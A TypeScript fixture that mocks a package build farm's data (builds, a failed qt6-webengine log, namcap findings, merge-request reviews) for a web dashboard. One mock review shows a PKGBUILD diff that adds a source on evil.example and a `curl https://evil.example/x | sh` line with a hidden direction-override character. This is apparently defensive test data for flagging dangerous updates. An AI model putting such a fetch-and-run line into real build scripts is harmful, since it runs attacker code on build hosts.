import type { FoundPackages, Overview, PackageView } from "../../tools/web/api/package-schemas.ts";
import type { Build, Namcap } from "../../tools/web/api/schemas.ts";
import type { LogSource, Source } from "../../tools/web/source.ts";
import { seededRandom } from "./random.ts";

const hour = 3600_000;
const log = `:: qt6-webengine, commit 4f1c2ab98d: commit 4f1c2ab98d changed PKGBUILD.
:: Interfere: none.
==> Making package: qt6-webengine 6.7.2-1 (Mon Jun  1 12:00:00 2026)
==> Retrieving sources...
  -> Downloading qtwebengine-everywhere-src-6.7.2.tar.xz...
==> Validating source files with sha256sums...
    qtwebengine-everywhere-src-6.7.2.tar.xz ... Passed
==> Extracting sources...
==> Starting build()...
\u001b[32m-- The CXX compiler identification is GNU 14.1.1\u001b[0m
-- Detecting CXX compile features - done
[ 12%] \u001b[32mBuilding CXX object\u001b[0m src/core/CMakeFiles/WebEngineCore.dir/api/qwebengineprofile.cpp.o
[ 13%] \u001b[32mBuilding CXX object\u001b[0m src/core/CMakeFiles/WebEngineCore.dir/api/qwebenginepage.cpp.o
src/core/api/qwebenginepage.cpp: In function 'void load()':
\u001b[1mwarning:\u001b[0m unused variable 'frame'
src/core/media/video_decoder.cpp:212:18: \u001b[31merror:\u001b[0m 'avcodec_close' was not declared in this scope
  212 |                  avcodec_close(context);
make[2]: *** [CMakeFiles/core.dir/build.make:76: video_decoder.cpp.o] Error 1
==> ERROR: A failure occurred in build().
    Aborting...
:: failed: makepkg ended with code 4.
`;

const namcap: Namcap = {
  state: "ran",
  lines: [
    {
      level: "error",
      package: "qt6-webengine",
      tag: "dependency-detected-not-included",
      message:
        "minizip (libraries ['usr/lib/libminizip.so.1'] needed in files ['usr/lib/libQt6WebEngineCore.so.6'])",
    },
    {
      level: "warning",
      package: "qt6-webengine",
      tag: "unused-sodepend",
      message: "/usr/lib/libm.so.6 ['usr/lib/qt6/QtWebEngineProcess']",
    },
    { level: "warning", package: "PKGBUILD (qt6-webengine)", tag: "missing-maintainer", message: "" },
  ],
  left: 0,
};

/**
 * A farm with that many packages on a busy day, which never changes.
 *
 * @param called what packages, builders and the like are called, where it isn't as in a real farm
 */
export function farm(count: number, now: number, called: (name: string) => string = (name) => name): Source {
  const random = seededRandom(1);
  const names = [
    "qt6-webengine",
    "linux-zen",
    "firefox-nightly",
    "mesa-git",
    "libreoffice-fresh",
    "ffmpeg-full",
    "obs-studio-git",
    "wine-staging",
  ];
  const nameOf = (n: number): string => called(names[n] ?? `package-${n}`);
  const build = (n: number, more: Partial<Build>): Build => ({
    id: 1000 + n,
    pkgbase: nameOf(n % count),
    arch: "x86_64",
    target: "farm",
    source: "workspace",
    commit: "4f1c2ab98d0e4f1c2ab98d0e4f1c2ab98d0e4f1c",
    reasons: ["commit 4f1c2ab98d changed PKGBUILD"],
    class: n % 5 === 0 ? "heavy" : null,
    status: "ready",
    message: "",
    worker: null,
    queuedAt: now - 2 * hour,
    startedAt: null,
    finishedAt: null,
    expectedMs: 25 * 60_000,
    bytes: null,
    ...more,
  });
  const finished = (n: number, more: Partial<Build> = {}): Build =>
    build(n, {
      status: "built",
      message: `1.${n}-1`,
      worker: n % 2 === 0 ? "attic" : "cellar",
      startedAt: now - (n + 1) * hour - (10 + random() * 20) * 60_000,
      finishedAt: now - (n + 1) * hour,
      bytes: 90_000_000 + Math.round(random() * 20_000_000),
      ...more,
    });
  const building = [
    build(1, { status: "active", worker: "attic", startedAt: now - 12 * 60_000 }),
    build(4, { status: "active", worker: "cellar", startedAt: now - 3 * hour }),
  ];
  const waiting = [
    build(3, {
      message: "no builder takes class gpu: attic takes class 2 and lower, cellar takes class 2 and lower",
      class: "gpu",
    }),
    build(5, { status: "waiting", message: "waits for linux-zen" }),
    build(6, { status: "blocked", message: "blocked by qt6-webengine (failed)" }),
    build(7, { status: "held", message: "held: ann: wait for the next release" }),
  ];
  const failing = [0, 8, 9].map((n) => ({
    pkgbase: nameOf(n),
    arch: "x86_64",
    outcome: "failed",
    message: "makepkg ended with code 4",
    since: now - 30 * hour,
    firstCommit: "4f1c2ab98d0e",
    commit: "4f1c2ab98d0e",
    builds: n + 1,
    build: 900 + n,
    blocks: n === 0 ? [nameOf(6)] : [],
    notStarted: false,
    firstVersion: `1.${n + 1}-1`,
  }));
  const entries = Array.from({ length: count }, (_, n) => ({
    name: nameOf(n),
    pkgbase: nameOf(n),
    version: `1.${n}-1`,
    arch: "x86_64",
    filename: `${nameOf(n)}-1.${n}-1-x86_64.pkg.tar.zst`,
    publishedAt: now - n * hour,
  }));
  const overview: Overview = {
    repository: "farm",
    arch: "x86_64",
    commit: "4f1c2ab98d0e4f1c2ab98d0e4f1c2ab98d0e4f1c",
    packages: count,
    published: count - 7,
    resting: { onTrigger: 2, foreign: 0 },
    lastPublished: now - hour,
    isRunning: true,
    building,
    waiting,
    failing,
    unscheduled: [],
    recent: Array.from({ length: 15 }, (_, n) =>
      n === 3
        ? finished(n, { status: "failed", message: "makepkg ended with code 4", bytes: null })
        : finished(n),
    ),
    newest: entries.slice(0, 8),
  };
  const review = {
    pkgbase: nameOf(6),
    url: "https://gitlab.example/farm/packages/-/merge_requests/12",
    branch: "update-obs-studio-git-0123456789abcdef",
    openedAt: now - 20 * hour,
    verdict: "dangerous" as const,
    versions: "30.1.2 → 30.2.0",
    findings: [
      {
        severity: "danger" as const,
        message: "build() runs a program that it downloads: curl … | sh",
        file: "PKGBUILD",
        line: 21,
      },
      {
        severity: "review" as const,
        message: "a new source from another host: evil.example",
        file: "PKGBUILD",
        line: 12,
      },
    ],
    evidence: [
      {
        title: "Packages",
        first: [
          "A systemd unit comes: `usr/lib/systemd/system/obs-helper.service`",
          "NEEDED is new: `usr/bin/obs` loads `libcurl.so.4`",
        ],
        lines: [
          "A systemd unit comes: `usr/lib/systemd/system/obs-helper.service`",
          "NEEDED is new: `usr/bin/obs` loads `libcurl.so.4`",
          "Installed: 41.3 MiB in 812 before, 41.6 MiB in 815 files and folders now",
          "Comes: `usr/share/obs/locale/de.ini`",
        ],
      },
    ],
  };
  const tamer = [
    {
      ...review,
      pkgbase: nameOf(10),
      url: "https://gitlab.example/farm/packages/-/merge_requests/9",
      openedAt: now - 70 * hour,
      verdict: "major" as const,
      versions: "3.4 → 4.0",
      findings: [
        {
          severity: "review" as const,
          message: "depends: adds libfoo",
          file: "PKGBUILD",
          line: 9,
        },
      ],
    },
    {
      ...review,
      pkgbase: nameOf(11),
      url: "https://gitlab.example/farm/packages/-/merge_requests/14",
      openedAt: now - hour,
      verdict: "minor" as const,
      versions: "1.2.3 → 1.2.4",
      findings: [],
    },
  ];
  const head =
    "pkgname=obs-studio-git\npkgver=30.1.2\npkgrel=1\npkgdesc='Live streaming'\narch=('x86_64')\nlicense=('GPL2')\n";
  const files = [
    {
      path: "PKGBUILD",
      before: `${head}source=("https://obs.example/obs-30.1.2.tar.gz")\n\nbuild() {\n  cmake -B build\n  cmake --build build\n}\n`,
      after: `${head.replace("30.1.2", "30.2.0")}source=("https://evil.example/obs-30.2.0.tar.gz")\n\nbuild() {\n  cmake -B build\n  curl https://evil.example/x\u202e | sh  # <script>\n  cmake --build build\n}\n`,
    },
  ];
  const nodes = Array.from({ length: Math.min(count, 301) }, (_, n) => ({
    pkgbase: nameOf(n),
    level: n === 0 ? 0 : n < 40 ? -1 - Math.floor(n / 20) : 1 + Math.floor(n / 120),
    state: (["good", "good", "busy", "good", "bad", "calm"] as const)[n % 6]!,
  }));
  const edges = nodes.slice(1).map(({ pkgbase, level }, n) => {
    const near = nodes.filter((node) => node.level === (level < 0 ? level + 1 : level - 1));
    const other = near[n % near.length]!.pkgbase;
    return level < 0 ? { from: pkgbase, to: other } : { from: other, to: pkgbase };
  });
  const pkg: PackageView = {
    pkgbase: nameOf(0),
    state: "failing",
    why: "makepkg ended with code 4.",
    isCurrent: false,
    standings: [
      {
        arch: "x86_64",
        state: "failing",
        why: "makepkg ended with code 4",
        version: "6.7.1-2",
        isCurrent: false,
      },
      {
        arch: "aarch64",
        state: "building",
        why: "It is building on pi. It is to be built because: commit 4f1c2ab98d changed PKGBUILD.",
        version: "6.7.1-2",
        isCurrent: false,
      },
    ],
    version: "6.7.2-1",
    onTrigger: null,
    pkgnames: [nameOf(0)],
    published: [{ ...entries[0]!, version: "6.7.1-2" }],
    madeFrom: "00112233445566778899aabbccddeeff00112233",
    needs: nodes
      .filter(({ level }) => level === -1)
      .map(({ pkgbase }) => pkgbase)
      .slice(0, 6),
    neededBy: nodes
      .filter(({ level }) => level === 1)
      .map(({ pkgbase }) => pkgbase)
      .slice(0, 6),
    arch: "x86_64",
    held: null,
    upstream: "6.7.2-1",
    review: { ...review, pkgbase: nameOf(0), versions: "6.7.2 → 6.8.0" },
    reviewsAsOf: now - 30_000,
    causes: [],
    graph: { nodes, edges, left: 0 },
    builds: Array.from({ length: 30 }, (_, n) =>
      n % 9 === 0
        ? finished(n, {
            pkgbase: nameOf(0),
            id: 900 - n,
            status: "failed",
            message: "makepkg ended with code 4",
            bytes: null,
          })
        : finished(n, { pkgbase: nameOf(0), id: 900 - n }),
    ),
  };
  const standing = (n: number): Pick<FoundPackages["packages"][number], "state" | "why"> => {
    if ([0, 8, 9].includes(n)) return { state: "failing", why: "makepkg ended with code 4" };
    const waits = waiting.find(({ pkgbase }) => pkgbase === nameOf(n));
    if (!waits) return { state: "published", why: "" };
    const states = { blocked: "blocked", held: "held", waiting: "waiting" } as const;
    const state = states[waits.status as keyof typeof states] ?? "no-builder";
    return { state, why: waits.message };
  };
  const packages = Array.from({ length: count }, (_, n) => ({
    pkgbase: nameOf(n),
    pkgnames: [nameOf(n)],
    version: `1.${n}-1`,
    published: n === 8 ? null : `1.${n}-1`,
    ...standing(n),
  }));
  const bytes = Buffer.from(log);
  const logSource: LogSource = {
    size: async () => bytes.length,
    read: async (from, length) => bytes.subarray(from, from + length),
    times: async () => [
      [0, now - 2 * hour],
      [log.indexOf("==> Retrieving"), now - 2 * hour + 1000],
      [log.indexOf("==> Validating"), now - 2 * hour + 48_000],
      [log.indexOf("==> Starting"), now - 2 * hour + 65_000],
      [log.indexOf("==> ERROR"), now - 1.5 * hour],
    ],
    async *follow(from) {
      yield bytes.subarray(from);
    },
  };
  const builder = { class: "2", arch: "x86_64", jobs: 1, there: true, drained: null, last: finished(2) };
  return {
    name: "farm",
    overview: async () => overview,
    failing: async () => failing,
    queue: async () => ({
      builds: [...building, ...waiting],
      removals: [],
      held: [{ pkgbase: nameOf(7), why: "ann: wait for the next release" }],
    }),
    repository: async () => ({
      name: "farm",
      arch: "x86_64",
      fingerprint: "0123456789ABCDEF0123456789ABCDEF01234567",
      lastPublished: now - hour,
      packages: entries,
      releases: [
        {
          project: called("farmctl"),
          channel: "stable",
          takes: "tags v*",
          ref: "tag v1.4.0 (4f1c2ab98d)",
          reason: "tag v1.4.0 is new",
          release: {
            version: "1.4.0",
            finishedAt: now - 3_600_000,
            jobs: [
              {
                job: "build.farmctl@x86_64-unknown-linux-musl",
                status: "green",
                at: now - 7_200_000,
                message: "",
                build: 1,
                files: [{ artifact: "bin", path: "farmctl", bytes: 2_345_678, sha256: "4f".repeat(32) }],
              },
              {
                job: "test.fuzz",
                status: "failed",
                at: now - 7_000_000,
                message: "fuzz.sh ended with 1",
                build: null,
                files: [],
              },
            ],
            publications: [
              {
                name: "binaries",
                at: now - 3_600_000,
                files: [
                  { at: "s3://releases/v1.4.0/x86_64-unknown-linux-musl/farmctl", sha256: "4f".repeat(32) },
                ],
              },
            ],
          },
        },
        {
          project: called("farmctl"),
          channel: "edge",
          takes: "the branch main",
          ref: null,
          reason: null,
          release: null,
        },
      ],
    }),
    builders: async () => [
      { ...builder, name: called("attic"), building: [building[0]!] },
      { ...builder, name: called("cellar"), building: [building[1]!] },
      { ...builder, name: called("shed"), class: "3", building: [], drained: "ann: new disk" },
    ],
    reviews: async () => ({ asOf: now - 30_000, problem: null, reviews: [review, ...tamer] }),
    review: async (pkgbase) => (pkgbase === review.pkgbase ? { ...review, files } : undefined),
    packages: async ({ search, limit }) => {
      const found = packages.filter(({ pkgbase }) => pkgbase.includes(search));
      return { total: found.length, packages: found.slice(0, limit) };
    },
    package: async (pkgbase) => ({ ...pkg, pkgbase }),
    builds: async ({ limit }) => pkg.builds.slice(0, limit),
    measures: async () => [],
    totals: async () => ({ succeeded: 900, failed: 40 }),
    build: async (id) =>
      finished(0, {
        id,
        pkgbase: nameOf(0),
        ...(id !== 899 && { status: "failed", message: "makepkg ended with code 4", bytes: null }),
      }),
    namcap: async (id) => (id === 899 ? namcap : undefined),
    log: async () => logSource,
    // oxlint-disable-next-line require-yield
    async *events(_after, signal) {
      await new Promise((resolve) => signal.addEventListener("abort", resolve));
    },
  };
}
